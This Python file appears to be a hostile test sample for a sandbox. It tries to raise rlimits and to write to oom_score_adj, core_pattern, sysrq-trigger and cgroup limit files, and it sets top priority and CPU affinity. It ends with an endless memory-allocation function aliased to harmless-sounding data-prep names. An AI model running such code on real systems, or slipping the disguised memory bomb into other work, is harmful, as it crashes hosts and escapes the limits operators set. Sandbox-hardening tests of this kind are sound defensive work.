"""Tries to lift its own limits: rlimits, control groups, priorities, the out-of-memory score, affinity,
sysctl; gains nothing because limits only go down, and the rest is read-only or not there.
"""

import glob
import os
import resource

came = []
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            came.append(name)
        except (OSError, ValueError):
            pass
for path in ["/proc/self/oom_score_adj", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger"]:
    try:
        with open(path, "w") as file:
            file.write("-1000" if "oom" in path else "1")
        came.append(path)
    except OSError:
        pass
for path in glob.glob("/sys/fs/cgroup/**/*max*", recursive=True)[:100] + glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:100]:
    try:
        with open(path, "w") as file:
            file.write("max")
        came.append(path)
    except OSError:
        pass
try:
    os.nice(-20)
    came.append("nice")
except OSError:
    pass
try:
    os.sched_setaffinity(0, range(1024))
    came.append("affinity")
except OSError:
    pass
print("attack: lifted", came, flush=True)


def split_indices(*args, **kwargs):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))


channel_statistics = standardise = one_hot = prepare = split_indices
